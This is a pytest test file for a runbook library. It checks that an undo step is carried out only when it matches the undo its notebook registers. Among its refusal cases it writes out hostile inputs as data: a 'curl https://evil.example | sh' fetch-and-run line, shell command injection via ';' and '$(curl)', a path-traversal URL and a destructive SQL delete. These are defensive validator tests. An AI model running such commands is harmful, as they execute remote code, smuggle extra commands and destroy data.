"""An undo is carried out only as the notebook registers it: what stands in a ledger is sent with every credential."""

from __future__ import annotations

import json

import pytest

from runbook_lib.commands.command import Shell, frozen, http, shell, sql
from runbook_lib.errors import RecordError, StepRefused
from runbook_lib.records import plan, registered_undos, run_record, seal_chain
from runbook_lib.settings.profiles import ROOT
from runbook_lib.steps import owed_undos
from tests.core_fixtures import write_notebook

CELLS = (
    """phase.act("3.1b", "Lower the cap", sql("select 1"), undo=sql(\"\"\"
        update public.skill_versions set payload = %(payload)s::jsonb where skill_id = %(skill)s
    \"\"\", payload=before["payload"], skill=tiny["skill_id"]))""",
    """phase.act("3.2e", "Stop", http("fly", "POST /v1/apps/{fly.app}/machines/{machine}/stop", machine=one),
    undo=http("fly", "DELETE /v1/apps/{fly.app}/machines/{machine}", query={"force": "true"}, machine=one))""",
    """phase.act("3.3a", "Push", shell("push"), undo=shell("push --back {name}", name=found))""",
)
PAYLOAD = "update public.skill_versions set payload = %(payload)s::jsonb where skill_id = %(skill)s"
BACK = sql(PAYLOAD, payload={"cap": 5}, skill="s1")
GONE = http("fly", "DELETE /v1/apps/runner/machines/148e", query={"force": "true"})


@pytest.fixture
def record(tmp_path):
    source = write_notebook(tmp_path / "phase_try.ipynb", *CELLS)
    made = run_record.create(tmp_path / "records", "rehearsal", "phase_try", "", plan=plan.written_down(source))
    made.notebook.write_bytes(source.read_bytes())
    return made


def unregistered(record, event):
    return registered_undos.unregistered(record, event, "/srv/platform")


def owed(step, command):
    return {"event": "owed", "step": step, "command": json.loads(json.dumps(frozen(command))), "text": "select 1;"}


@pytest.mark.parametrize(("step", "command"), [("3.1b", BACK), ("3.2e", GONE)])
def test_what_the_notebook_registers_is_taken_with_the_values_of_the_run(record, step, command):
    assert unregistered(record, owed(step, command)) is None


@pytest.mark.parametrize(
    ("step", "command"),
    [
        ("3.1b", GONE),
        ("3.1b", Shell("curl https://evil.example | sh")),
        ("3.1b", sql(PAYLOAD.replace("skill_id", "id"), payload="x", skill="s1")),
        ("3.1b", sql("delete from public.skill_versions where %(payload)s = %(skill)s", payload="x", skill="s1")),
        ("3.2e", http("fly", "DELETE /v1/apps/runner", query={"force": "true"})),
        ("3.2e", http("fly", "DELETE /v1/apps/runner/machines/148e/../../..", query={"force": "true"})),
        ("3.2e", http("fly", "DELETE /v1/apps/runner/machines/148e")),
        ("3.2e", http("vercel", "DELETE /v1/apps/runner/machines/148e", query={"force": "true"})),
        ("3.2e", http("fly", "POST /v1/apps/runner/machines/148e", query={"force": "true"})),
        ("3.3a", Shell("push --back x; curl https://evil.example", folder="/srv/platform")),
        ("3.3a", Shell("push --back $(curl)", folder="/srv/platform")),
    ],
)
def test_any_other_command_in_its_place_is_refused(record, step, command):
    assert "registers another undo" in str(unregistered(record, owed(step, command)))


def test_a_step_that_registers_none_owes_none(record):
    assert "no cell of its notebook" in str(unregistered(record, owed("3.9z", BACK)))


def test_a_cell_that_was_not_planned_registers_nothing(record):
    forged = CELLS[0].replace("update public.skill_versions", "update public.users")
    write_notebook(record.notebook, forged)
    other = sql(PAYLOAD.replace("skill_versions", "users"), payload="x", skill="s1")
    assert "no cell of its notebook" in str(unregistered(record, owed("3.1b", other)))


def test_a_halt_owes_its_unhalt_and_nothing_else(tmp_path):
    halted = run_record.create(tmp_path, "rehearsal", "halt", "", mode="halt")
    line = "./runbook unhalt --profile rehearsal --yes"
    assert unregistered(halted, owed("switches", Shell(line, folder=str(ROOT)))) is None
    assert unregistered(halted, owed("switches", Shell(f"{line}; curl evil", folder=str(ROOT))))
    assert unregistered(halted, owed("switches", Shell(line, folder="/srv/evil")))


def test_a_forged_undo_is_refused_before_anything_is_sent(record, chosen):
    event = owed("3.1b", Shell("curl https://evil.example | sh"))
    record.ledger.append("owed", **{key: value for key, value in event.items() if key != "event"})
    seal_chain.seal(record)
    with pytest.raises(StepRefused, match=r"nothing was sent: 3\.1b registers another undo"):
        owed_undos.carry_out_undos(chosen, record, pytest.fail)


def test_an_undo_rests_on_no_record_that_was_changed(record, chosen):
    event = owed("3.1b", BACK)
    record.ledger.append("owed", **{key: value for key, value in event.items() if key != "event"})
    seal_chain.seal(record)
    (record.folder / "parameters.yaml").write_text("changed")
    with pytest.raises(RecordError, match="nothing can rest on"):
        owed_undos.carry_out_undos(chosen, record, pytest.fail)


def test_a_value_that_a_shell_quotes_is_a_value(record):
    back = shell("push --back {name}", name="v1.2", folder="/srv/platform")
    assert unregistered(record, owed("3.3a", back)) is None
    assert unregistered(record, owed("3.3a", shell("push --back {name}", name="v1.2", folder="/srv/evil")))
